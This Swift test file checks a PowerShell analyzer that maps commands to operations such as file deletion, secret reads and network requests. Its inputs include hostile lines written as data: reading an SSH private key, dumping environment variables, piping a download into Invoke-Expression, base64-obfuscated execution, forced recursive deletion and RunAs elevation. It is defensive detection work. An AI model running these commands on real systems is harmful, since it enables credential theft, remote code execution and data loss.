// SPDX-License-Identifier: Apache-2.0
import Testing
import WritCore
import WritShell

/// PowerShell text as operations.
@Suite struct PowerShellTests {
    private func lines(_ text: String) -> [String] {
        ShellAnalyzer.operations(ofPowerShell: text, in: testContext()).dropFirst().map(line)
    }

    @Test func `cmdlets and aliases have their effects`() {
        let cases: [(String, [String])] = [
            ("Remove-Item x.txt", ["file.delete /proj/app/x.txt"]),
            ("del a, b", ["file.delete /proj/app/a", "file.delete /proj/app/b"]),
            ("ri -Recurse -Force .\\out", ["file.delete /proj/app/out force recursive"]),
            ("Remove-Item -LiteralPath '/srv/a b' -r", ["file.delete /srv/a b recursive"]),
            ("Get-Content ~/.ssh/id_rsa", ["file.read /home/ana/.ssh/id_rsa", "secret.read /home/ana/.ssh/id_rsa (ssh-key)"]),
            ("'x' | Out-File -Append log.txt", ["file.write /proj/app/log.txt"]),
            ("echo hi > out.txt", ["file.write /proj/app/out.txt"]), ("echo hi > $null", []),
            ("Copy-Item a.txt b.txt", ["file.read /proj/app/a.txt", "file.write /proj/app/b.txt"]),
            ("cd sub; Set-Content -Path a -Value b", ["file.write /proj/app/sub/a"]),
            ("iwr https://h.example/x -OutFile y", ["http.request h.example:443 download", "file.write /proj/app/y"]),
            ("Invoke-RestMethod -Method Post -Uri https://h.example -Body 'x'", ["http.request h.example:443 upload download"]),
            ("gci env:", ["secret.read (shows)"]), ("Install-Module PSReadLine", ["pkg.install psgallery/PSReadLine"]),
            ("Start-Process -FilePath git -ArgumentList 'status'", ["shell.exec git"]),
            ("Start-Process pwsh -Verb RunAs", ["privilege.raise", "shell.exec pwsh interpreter"]),
            ("git status; npm ci --ignore-scripts", ["shell.exec git", "shell.exec npm", "pkg.install"]),
            ("Get-Process | ? { $_.CPU -gt 5 } | % { $_.Name }", []),
            ("if (Test-Path a) { rm a } else { ni b }", ["file.delete /proj/app/a", "file.write /proj/app/b"]),
            ("function f { rm q }; f", ["file.delete /proj/app/q"]), ("# rm x\n<# rm y #> Write-Host 'rm z'", []),
            ("& { rm a }", ["file.delete /proj/app/a"]), ("1..3 | ForEach-Object { rm a }", ["file.delete /proj/app/a"]),
        ]
        for (text, expected) in cases { #expect(lines(text) == expected, "\(text)") }
    }

    @Test func `strings, variables and decoders make code`() {
        let cases: [(String, [String])] = [
            ("$f = 'a'; rm \"$f.txt\"", ["file.delete /proj/app/a.txt"]), ("rm \"a`tb\"", ["file.delete /proj/app/a\tb"]),
            ("iex 'rm x'", ["file.delete /proj/app/x"]), ("iex ('r' + 'm x')", ["file.delete /proj/app/x"]),
            ("& ('Remove' + '-Item') x", ["file.delete /proj/app/x"]), ("'rm x' | iex", ["file.delete /proj/app/x"]),
            (
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0geA==')))",
                ["shell.exec invoke-expression interpreter <decoded", "file.delete /proj/app/x"]
            ),
            (
                "iwr http://h.example/a | iex",
                [
                    "http.request h.example:80 download",
                    "shell.exec invoke-expression interpreter <net opaque:tainted",
                ]
            ),
            (
                "$c = New-Object Net.WebClient; $c.DownloadString('http://h.example') | iex",
                [
                    "http.request h.example:80 download",
                    "shell.exec invoke-expression interpreter <net opaque:tainted",
                ]
            ),
            ("[IO.File]::WriteAllText('a', 'b')", ["file.write /proj/app/a"]),
            ("[System.IO.Directory]::Delete('/srv', $true)", ["file.delete /srv recursive"]),
        ]
        for (text, expected) in cases { #expect(lines(text) == expected, "\(text)") }
    }

    @Test func `what is not known is said by name`() {
        for (text, detail) in [
            ("Set-Frob x", "PowerShell uses a command that is not known: Set-Frob"),
            ("Frobnicate-Thing x", "PowerShell uses a command that is not known: Frobnicate-Thing"),
            ("[Foo.Bar]::Baz('x')", "PowerShell calls [Foo.Bar]::Baz"), ("& $x", "PowerShell calls what is computed: …"),
            ("iex $x", "PowerShell runs code that is computed"),
        ] {
            let found = ShellAnalyzer.operations(ofPowerShell: text, in: testContext()).filter { $0.opaque != nil }
            #expect(found.map(\.detail) == [detail], "\(text)")
        }
    }

    @Test func `unfinished text never traps`() {
        let text = "rm -Recurse \"a$(iwr 'http://h.example'|iex)`n\" @{a=(b)}; $x='q'; [T]::m({c}) | % { & $x } > @\"\nz\n\"@"
        let bytes = Array(text.utf8)
        for start in bytes.indices {
            for end in stride(from: start, to: bytes.count, by: 7) {
                let part = String(decoding: bytes[start...end], as: UTF8.self)
                #expect(ShellAnalyzer.operations(ofPowerShell: part, in: testContext()).count <= 200)
            }
        }
    }
}
